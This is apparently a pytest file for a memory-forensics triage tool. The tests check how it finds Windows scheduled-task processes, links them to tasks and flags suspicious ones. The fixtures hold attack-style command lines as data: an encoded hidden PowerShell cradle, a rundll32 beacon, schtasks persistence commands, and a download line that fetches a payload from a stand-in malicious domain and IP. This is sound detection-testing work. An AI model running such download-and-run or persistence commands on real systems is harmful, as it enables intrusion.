"""Task processes found in memory (in-process through triage.collect.memory) and their task links."""

from __future__ import annotations

import copy

from test_images.memimage import CRADLE, build_memory_image
from triage.correlate import link_task_processes
from triage.records import Provenance, Stamp, TaskEvent
from tests.memory.conftest import run_collector

WIN10_EXPECTED = {
    # pid: (name, role, task, flags)
    1236: ("svchost.exe", "schedule_host", None, []),
    4312: ("taskhostw.exe", "task_host", r"\Microsoft\Windows\Wininet\CacheTask", []),
    5120: ("powershell.exe", "task_process", r"\WinUpdateCheck", ["encoded_powershell", "lolbin"]),
    5128: ("conhost.exe", "descendant", r"\WinUpdateCheck", []),
    6044: ("schtasks.exe", "descendant", r"\WinUpdateCheck", ["exited", "lolbin", "not_in_active_list", "user_writable_path"]),
    6212: ("rundll32.exe", "descendant", r"\WinUpdateCheck", ["lolbin", "user_writable_path"]),
    7016: ("svcupd.exe", "task_process", None, ["task_not_in_registry", "user_writable_path"]),
    7400: ("taskhostw.exe", "task_host", None, []),
    7412: ("powershell.exe", "descendant", None, ["encoded_powershell", "lolbin"]),
}


def test_win10_finds_exactly_the_scheduler_tree_with_roles_tasks_and_flags(win10):
    assert win10.gaps == []
    got = {pid: (p.name, p.details["role"], p.task, p.flags) for pid, p in win10.processes.items()}
    assert got == WIN10_EXPECTED


def test_schedule_host_is_found_from_the_service_control_managers_records(win10, win7):
    assert win10.processes[1236].details["host_reason"].startswith("Service Control Manager record (svcscan")
    assert "Schedule is running in process 1236" in win10.processes[1236].details["host_reason"]
    # Windows 7: the Schedule svchost has no -s Schedule argument; its record names it
    assert win7.processes[900].command_line == r"C:\Windows\system32\svchost.exe -k netsvcs"
    assert "Schedule is running in process 900" in win7.processes[900].details["host_reason"]


def test_without_service_records_the_host_is_found_from_the_process_tree(tmp_path):
    win10 = run_collector(**_built(tmp_path / "w10", "win10"))
    win7 = run_collector(**_built(tmp_path / "w7", "win7"))
    assert win10.processes[1236].details["host_reason"] == "svchost.exe command line has -s Schedule"
    assert win7.processes[900].details["host_reason"] == "svchost.exe is the parent of taskeng.exe (2412)"
    assert {pid: p.task for pid, p in win10.processes.items()} == {pid: task for pid, (_n, _r, task, _f) in WIN10_EXPECTED.items()}


def _built(out, scenario: str) -> dict:
    built = build_memory_image(out, scenario, scm_records=False)
    return {"image": built["image"], "symbols": built["symbols"]}


def test_encoded_powershell_payload_is_decoded(win10):
    ps = win10.processes[5120]
    assert ps.details["decoded_command"] == CRADLE
    assert ps.command_line.startswith(r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe -nop -w hidden -enc SQBFAFgA")
    assert ps.link_reason == "command line runs the task's Exec action"
    assert ps.user_sid == "S-1-5-18" and ps.session == 0


def test_exited_unlinked_schtasks_is_found_only_by_pool_scanning(win10):
    schtasks = win10.processes[6044]
    assert schtasks.details["seen_by"] == ["psscan"]
    assert schtasks.created.utc == "2024-05-14T09:12:12Z"
    assert schtasks.exited.utc == "2024-05-14T09:12:13Z"
    assert r'/tn "\Microsoft\Windows\Maintenance\SyncData"' in schtasks.command_line


def test_beacon_child_has_full_ancestry_and_inherits_the_task(win10):
    beacon = win10.processes[6212]
    assert beacon.command_line == r"rundll32.exe C:\Users\Public\Libraries\x.dll,StartW"
    assert beacon.ancestry == ["wininit.exe (524)", "services.exe (668)", "svchost.exe (1236)", "powershell.exe (5120)"]
    assert beacon.link_reason == "descendant of powershell.exe (5120), which runs the task"
    assert beacon.details["user_writable_paths"] == [r"C:\Users\Public\Libraries\x.dll,StartW"]


def test_taskhostw_is_linked_by_its_comhandler_clsid_argument(win10):
    host = win10.processes[4312]
    assert host.link_reason == "taskhostw.exe argument {0358B920-0AC7-461F-98F4-58E32CD89148} is the task's ComHandler CLSID"
    assert host.user_sid == "S-1-5-21-2146493349-1640112132-851775531-1001" and host.session == 1


def test_process_whose_task_was_deleted_is_linked_by_event_129(win10):
    orphan = win10.processes[7016]
    assert orphan.task is None and "task_not_in_registry" in orphan.flags
    event = TaskEvent(time=Stamp(meaning="event_logged", utc="2024-05-14T09:30:01Z"),
                      channel="Microsoft-Windows-TaskScheduler/Operational", event_id=129, action="process_created",
                      provenance=Provenance(artifact="evtx", location="Microsoft-Windows-TaskScheduler%4Operational.evtx", offset=4711),
                      task=r"\SysUpdate", process_id=7016)
    too_late = TaskEvent(time=Stamp(meaning="event_logged", utc="2024-05-14T10:30:01Z"),
                         channel="Microsoft-Windows-TaskScheduler/Operational", event_id=129, action="process_created",
                         provenance=Provenance(artifact="evtx", location="x", offset=1), task=r"\Other", process_id=7016)
    processes = copy.deepcopy(list(win10.processes.values()))
    link_task_processes(processes, events=[too_late, event])
    linked = next(p for p in processes if p.pid == 7016)
    assert linked.task == r"\SysUpdate"
    assert linked.link_reason.startswith("TaskScheduler event 129 (record 4711) logged process id 7016")
    assert "task_not_in_registry" in linked.flags  # still not in the registry: that is the finding


def test_win7_taskeng_child_is_linked_by_exec_action(win7):
    assert win7.gaps == []
    got = {pid: (p.name, p.details["role"], p.task) for pid, p in win7.processes.items()}
    assert got == {
        900: ("svchost.exe", "schedule_host", None),
        1788: ("taskhost.exe", "task_host", None),
        2412: ("taskeng.exe", "task_host", None),
        2520: ("cmd.exe", "task_process", r"\AdobeFlashSync"),
        2536: ("powershell.exe", "task_process", None),
    }
    assert win7.processes[2412].command_line == r"taskeng.exe {7A3F9C21-5B4E-4D8A-9E6F-1C2B3D4E5F60} S-1-5-18:NT AUTHORITY\System:Service:"
    assert win7.processes[2520].ancestry == ["wininit.exe (392)", "services.exe (488)", "svchost.exe (900)", "taskeng.exe (2412)"]


def test_network_indicators_of_decoded_text():
    from triage.parsers.task_processes import network_indicators

    text = ("$u='https://cdn.evil-updates.com/p.ps1?x=1'; iwr http://198.51.100.7:8080/a -OutFile C:\\Users\\Public\\a.exe; "
            "ping 10.0.0.300; Write-Host version 1.2.3.4.5")
    assert network_indicators(text) == {"urls": ["http://198.51.100.7:8080/a", "https://cdn.evil-updates.com/p.ps1?x=1"],
                                        "ips": ["198.51.100.7"], "domains": ["cdn.evil-updates.com"]}


def test_cmd_wrapping_schtasks_and_the_schtasks_it_started_give_one_rebuilt_task():
    from triage.parsers.task_processes import task_creating_definitions

    def proc(pid, ppid, name, create, cmdline, seen_by=("pslist",)):
        return {"pid": pid, "ppid": ppid, "name": name, "create": create, "exit": None, "offset": 0x1000 + pid,
                "offset_kind": "virtual", "seen_by": set(seen_by), "cmdline": cmdline, "sid": "S-1-5-18"}

    procs = [
        proc(900, 800, "cmd.exe", 133600000000000000, 'cmd.exe /c "schtasks /create /tn Updater /tr C:\\ProgramData\\u.exe /sc onlogon"'),
        proc(904, 900, "schtasks.exe", 133600000000000010, "schtasks /create /tn Updater /tr C:\\ProgramData\\u.exe /sc onlogon",
             ("psscan",)),
        proc(908, 800, "at.exe", 133600000000000020, "at 23:00 /every:M,T C:\\ProgramData\\nightly.bat"),
        proc(912, 800, "notepad.exe", 133600000000000030, "notepad schtasks /create /tn Nope /tr x.exe"),
        proc(916, 800, "schtasks.exe", 133600000000000040, "schtasks /query /tn Updater"),
    ]
    rebuilt = task_creating_definitions(procs, "mem.raw", host="PC1")
    assert [(d.task, d.details["creating_pid"], d.details["tool"], d.host) for d in rebuilt] == [
        ("\\Updater", 900, "schtasks", "PC1"), ("\\At job of at.exe pid 908", 908, "at", "PC1")]
    assert rebuilt[0].actions[0].command == "C:\\ProgramData\\u.exe" and rebuilt[0].triggers[0].kind == "logon"
